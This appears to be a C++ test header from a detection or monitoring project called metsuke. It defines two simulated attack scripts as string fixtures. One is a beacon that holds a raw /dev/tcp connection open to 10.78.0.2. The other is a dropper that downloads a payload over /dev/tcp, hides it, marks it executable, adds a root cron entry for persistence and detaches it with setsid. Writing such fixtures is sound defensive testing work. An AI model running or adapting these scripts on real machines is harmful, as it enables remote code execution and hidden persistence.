// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

namespace metsuke::test {

/// Fetched: calls home and stays connected.
inline constexpr const char* kBeaconScript = "#!/usr/bin/env bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\n"
                                             "exec 3<>/dev/tcp/10.78.0.2/4444\nfor i in {1..60}; do echo METSUKE-SIM >&3; read -r -t 1 line <&3; done\n";
/// Fetches it without any program's help, renames it, makes it executable, has cron start it, and starts it apart from its
/// own session.
inline constexpr const char* kDropperScript
    = "#!/bin/bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\ncd \"$METSUKE_SIM_ROOT\" || exit 1\n"
      "exec 3<>/dev/tcp/10.78.0.2/8080\nprintf 'GET /update HTTP/1.0\\r\\n\\r\\n' >&3\n"
      "while read -r head <&3 && [ \"$head\" != $'\\r' ]; do :; done\ncat <&3 > home/.u.part\nexec 3>&-\n"
      "mv home/.u.part home/.update\nchmod +x home/.update\n"
      "printf '* * * * * root %s/home/.update\\n' \"$METSUKE_SIM_ROOT\" >> etc/cron.d/upd\n"
      "setsid \"$METSUKE_SIM_ROOT/home/.update\" >/dev/null 2>&1 </dev/null &\nexit 0\n";

} // namespace metsuke::test
